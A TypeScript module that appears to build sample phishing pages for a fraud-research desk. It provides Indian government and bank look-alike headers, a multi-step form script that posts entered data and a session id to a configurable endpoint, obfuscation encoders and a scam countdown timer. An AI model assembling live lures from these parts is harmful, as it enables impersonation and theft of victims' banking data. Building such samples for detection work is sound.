import { createHash } from 'node:crypto';

/**
 * Shared furniture for the yn- pages (South Asia payments fraud desk): document shell, logos, QR
 * drawings, encoders and a few stylesheets that many real sites and kits in the region reuse.
 */

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const pct = (s: string): string => [...Buffer.from(s, 'utf8')].map((b) => '%' + b.toString(16).padStart(2, '0')).join('');
export const codes = (s: string): string => [...s].map((c) => c.charCodeAt(0)).join(',');
export const rev = (s: string): string => [...s].reverse().join('');
export const xorHex = (s: string, key: number): string => [...Buffer.from(s, 'utf8')].map((b) => (b ^ key).toString(16).padStart(2, '0')).join('');

export const FONTS = {
  latin: "'Segoe UI',Roboto,'Helvetica Neue',Arial,sans-serif",
  deva: "'Noto Sans Devanagari','Mangal','Segoe UI',Arial,sans-serif",
  urdu: "'Noto Nastaliq Urdu','Jameel Noori Nastaleeq','Segoe UI',Tahoma,sans-serif",
  beng: "'Noto Sans Bengali','SolaimanLipi','Vrinda','Segoe UI',sans-serif",
  taml: "'Noto Sans Tamil','Latha','Segoe UI',sans-serif",
  sinh: "'Noto Sans Sinhala','Iskoola Pota','Segoe UI',sans-serif",
};

export type DocOpts = {
  title: string;
  body: string;
  lang?: string;
  dir?: 'ltr' | 'rtl';
  head?: string;
  css?: string;
  font?: string;
  bodyAttrs?: string;
  noViewport?: boolean;
};

/** A full HTML document. */
export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}"${o.dir ? ` dir="${o.dir}"` : ''}>
<head>
<meta charset="utf-8">
${o.noViewport ? '' : '<meta name="viewport" content="width=device-width, initial-scale=1, shrink-to-fit=no">'}
<title>${o.title}</title>
${o.head ?? ''}
<style>
*{box-sizing:border-box}
body{margin:0;font-family:${o.font ?? FONTS.latin};color:#222;background:#fff;line-height:1.45}
a{color:inherit}
${o.css ?? ''}
</style>
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

/** A word-mark logo drawn in SVG, the way kits and small sites inline them. */
export function wordmark(text: string, bg: string, fg = '#fff', w = 150, h = 40, radius = 6): string {
  const fs = Math.round(h * 0.45);
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="${h}" viewBox="0 0 ${w} ${h}" role="img" aria-label="${text}"><rect width="${w}" height="${h}" rx="${radius}" fill="${bg}"/><text x="${w / 2}" y="${h / 2 + fs / 3}" text-anchor="middle" font-family="Arial,Helvetica,sans-serif" font-weight="700" font-size="${fs}" fill="${fg}">${text}</text></svg>`;
}

/** A round emblem with initials. */
export function emblem(initials: string, ring: string, fill = '#fff', size = 56): string {
  const r = size / 2;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 ${size} ${size}"><circle cx="${r}" cy="${r}" r="${r - 2}" fill="${fill}" stroke="${ring}" stroke-width="4"/><text x="${r}" y="${r + size * 0.12}" text-anchor="middle" font-family="Georgia,serif" font-weight="700" font-size="${Math.round(size * 0.32)}" fill="${ring}">${initials}</text></svg>`;
}

/** The Indian national emblem placeholder used on government headers (a simple lion-capital outline). */
export const ASHOKA = `<svg xmlns="http://www.w3.org/2000/svg" width="38" height="56" viewBox="0 0 38 56" aria-label="Government of India"><path d="M19 4c4 0 6 3 6 6s-2 5-2 7h6c2 0 3 2 3 4v6H6v-6c0-2 1-4 3-4h6c0-2-2-4-2-7s2-6 6-6z" fill="#5b4a2f"/><rect x="4" y="28" width="30" height="5" fill="#5b4a2f"/><circle cx="19" cy="30.5" r="2" fill="#fff"/><rect x="8" y="35" width="22" height="14" fill="#5b4a2f"/><text x="19" y="54" text-anchor="middle" font-size="5" fill="#5b4a2f">सत्यमेव जयते</text></svg>`;

/** A deterministic QR-looking grid (not decodable), as drawn by payment pages that render their own. */
export function qrSvg(seed: string, size = 180): string {
  const n = 25;
  const cell = size / n;
  const h = createHash('sha256').update(seed).digest();
  let bits = '';
  for (let y = 0; y < n; y++) {
    for (let x = 0; x < n; x++) {
      const finder = (x < 7 && y < 7) || (x >= n - 7 && y < 7) || (x < 7 && y >= n - 7);
      if (finder) continue;
      const i = (y * n + x) % (h.length * 8);
      if (((h[i >> 3] ?? 0) >> (i & 7)) & 1 ? (x + y) % 3 !== 0 : (x * y) % 5 === 1) bits += `<rect x="${(x * cell).toFixed(1)}" y="${(y * cell).toFixed(1)}" width="${cell.toFixed(1)}" height="${cell.toFixed(1)}"/>`;
    }
  }
  const finder = (fx: number, fy: number): string =>
    `<rect x="${fx * cell}" y="${fy * cell}" width="${7 * cell}" height="${7 * cell}" fill="#000"/><rect x="${(fx + 1) * cell}" y="${(fy + 1) * cell}" width="${5 * cell}" height="${5 * cell}" fill="#fff"/><rect x="${(fx + 2) * cell}" y="${(fy + 2) * cell}" width="${3 * cell}" height="${3 * cell}" fill="#000"/>`;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 ${size} ${size}" shape-rendering="crispEdges"><rect width="${size}" height="${size}" fill="#fff"/><g fill="#000">${bits}</g>${finder(0, 0)}${finder(n - 7, 0)}${finder(0, n - 7)}</svg>`;
}

/** Tricolour strip and header used on Indian government portals (and copied by their clones). */
export function goiHeader(deptHi: string, deptEn: string, extra = ''): string {
  return `<div class="goi-strip"><div class="wrap"><span>भारत सरकार</span><span class="sep">|</span><span>GOVERNMENT OF INDIA</span><span class="right"><a href="#main">Skip to main content</a> <a href="#">A-</a> <a href="#">A</a> <a href="#">A+</a> <a href="#">हिन्दी</a></span></div></div>
<header class="goi-head"><div class="wrap">${ASHOKA}<div class="dept"><b>${deptHi}</b><span>${deptEn}</span></div>${extra}</div></header>`;
}

export const GOI_CSS = `.wrap{max-width:1140px;margin:0 auto;padding:0 16px}
.goi-strip{background:#1b1b1b;color:#ddd;font-size:12px;padding:5px 0}
.goi-strip .sep{margin:0 8px;color:#777}.goi-strip .right{float:right}.goi-strip .right a{margin-left:10px;color:#ddd;text-decoration:none}
.goi-head{background:#fff;border-bottom:4px solid;border-image:linear-gradient(90deg,#ff9933 33%,#fff 33% 66%,#138808 66%) 1;padding:10px 0}
.goi-head .wrap{display:flex;align-items:center;gap:14px}
.goi-head .dept b{display:block;font-size:20px;color:#0b3d91}.goi-head .dept span{font-size:14px;color:#444}
.goi-foot{background:#0b3d91;color:#dfe7ff;font-size:12.5px;padding:18px 0;margin-top:40px}
.goi-foot a{color:#fff;margin-right:14px}`;

export function goiFooter(owner: string, updated: string): string {
  return `<footer class="goi-foot"><div class="wrap"><p><a href="#">Website Policies</a><a href="#">Help</a><a href="#">Contact Us</a><a href="#">Feedback</a><a href="#">Sitemap</a><a href="#">Accessibility Statement</a></p><p>Content owned by ${owner}. Designed, developed and hosted by National Informatics Centre (NIC), Ministry of Electronics &amp; Information Technology, Government of India.</p><p>Last Updated: ${updated} | Visitors: 4,21,88,317</p></div></footer>`;
}

/** A plain bank-ish stylesheet: header bar, centred card, form controls. */
export function bankCss(primary: string, accent: string): string {
  return `.topbar{background:${primary};color:#fff;padding:10px 0}
.topbar .in{max-width:1100px;margin:0 auto;display:flex;align-items:center;justify-content:space-between;padding:0 16px}
.topbar a{color:#fff;text-decoration:none;font-size:13px;margin-left:16px}
.main{max-width:1100px;margin:24px auto;display:flex;gap:24px;padding:0 16px;flex-wrap:wrap}
.card{background:#fff;border:1px solid #dde3ea;border-radius:8px;padding:26px 28px;box-shadow:0 2px 10px rgba(0,0,0,.06);flex:1;min-width:300px}
.card h2{margin:0 0 6px;color:${primary};font-size:22px}
.card p.sub{margin:0 0 18px;color:#666;font-size:14px}
label{display:block;font-size:13px;font-weight:600;color:#333;margin:12px 0 4px}
input[type=text],input[type=password],input[type=tel],input[type=email],input[type=number],select{width:100%;height:42px;border:1px solid #c5cdd6;border-radius:4px;padding:0 12px;font-size:15px}
input:focus{outline:none;border-color:${accent};box-shadow:0 0 0 2px ${accent}33}
.btn{display:inline-block;background:${accent};color:#fff;border:0;border-radius:4px;height:44px;padding:0 28px;font-size:15px;font-weight:600;cursor:pointer;margin-top:18px}
.btn.block{width:100%}
.note{font-size:12px;color:#777;margin-top:14px}
.alert{background:#fff4e5;border-left:4px solid #f0a020;padding:10px 12px;font-size:13px;margin:10px 0}
.err{color:#c0262d;font-size:12px;display:none}
.side{flex:1;min-width:280px}
.side ul{padding-left:18px;font-size:13.5px;color:#444}
footer.b{border-top:1px solid #e2e2e2;margin-top:30px;padding:16px;text-align:center;font-size:12px;color:#777}`;
}

/** A little phone-frame stylesheet for mobile-first kits (most smishing pages are read on phones). */
export const MOBILE_CSS = `body{background:#eef1f5}
.app{max-width:420px;margin:0 auto;min-height:100vh;background:#fff;box-shadow:0 0 18px rgba(0,0,0,.08)}
.app header{padding:14px 16px;display:flex;align-items:center;gap:10px;color:#fff}
.app .pad{padding:18px}
.app h1{font-size:20px;margin:6px 0}
.app label{display:block;font-size:13px;color:#555;margin:14px 0 4px}
.app input,.app select{width:100%;height:46px;border:1px solid #cfd6de;border-radius:8px;padding:0 12px;font-size:16px}
.app button{width:100%;height:48px;border:0;border-radius:8px;color:#fff;font-size:16px;font-weight:600;margin-top:20px}
.app .muted{color:#777;font-size:12.5px}
.step{display:none}.step.on{display:block}
.spinner{width:34px;height:34px;border:4px solid #ddd;border-top-color:#555;border-radius:50%;animation:sp 1s linear infinite;margin:30px auto}
@keyframes sp{to{transform:rotate(360deg)}}`;

/**
 * The multi-step flow most regional kits share: each <form class="step"> posts its fields (plus a
 * session id) to `endpoint`, then the next step is shown; the last step goes to `done`.
 */
export function stepFlowScript(endpoint: string, done: string, extra = ''): string {
  return `<script>
(function(){
  var sid = localStorage.getItem('sid') || (Date.now().toString(36) + Math.random().toString(36).slice(2,8));
  localStorage.setItem('sid', sid);
  var steps = [].slice.call(document.querySelectorAll('form.step'));
  steps.forEach(function(f, i){
    f.addEventListener('submit', function(e){
      e.preventDefault();
      var fd = new FormData(f); fd.append('sid', sid); fd.append('step', f.getAttribute('data-step') || String(i+1));
      fd.append('ua', navigator.userAgent);
      var btn = f.querySelector('button'); if (btn) { btn.disabled = true; btn.textContent = btn.getAttribute('data-wait') || 'Please wait...'; }
      fetch(${JSON.stringify(endpoint)}, { method: 'POST', body: fd }).catch(function(){}).then(function(){
        setTimeout(function(){
          f.classList.remove('on');
          if (steps[i+1]) { steps[i+1].classList.add('on'); window.scrollTo(0,0); }
          else { location.href = ${JSON.stringify(done)}; }
        }, 1400);
      });
    });
  });
  ${extra}
})();
</script>`;
}

/** A countdown ("offer expires in 09:59") that many lures and scam pages carry. */
export function countdownScript(elId: string, seconds: number): string {
  return `<script>(function(){var t=${seconds},el=document.getElementById(${JSON.stringify(elId)});function p(n){return n<10?'0'+n:n}setInterval(function(){if(t>0)t--;if(el)el.textContent=p(Math.floor(t/60))+':'+p(t%60)},1000)})();</script>`;
}

/** Footer links a big Indian bank site carries. */
export function bankFooterLinks(name: string, year = 2025): string {
  return `<footer class="b"><a href="#">Privacy Policy</a> · <a href="#">Terms &amp; Conditions</a> · <a href="#">Security Tips</a> · <a href="#">Grievance Redressal</a> · <a href="#">Sitemap</a><br>© ${year} ${name}. All rights reserved. Best viewed in latest versions of Chrome, Edge, Firefox and Safari.</footer>`;
}
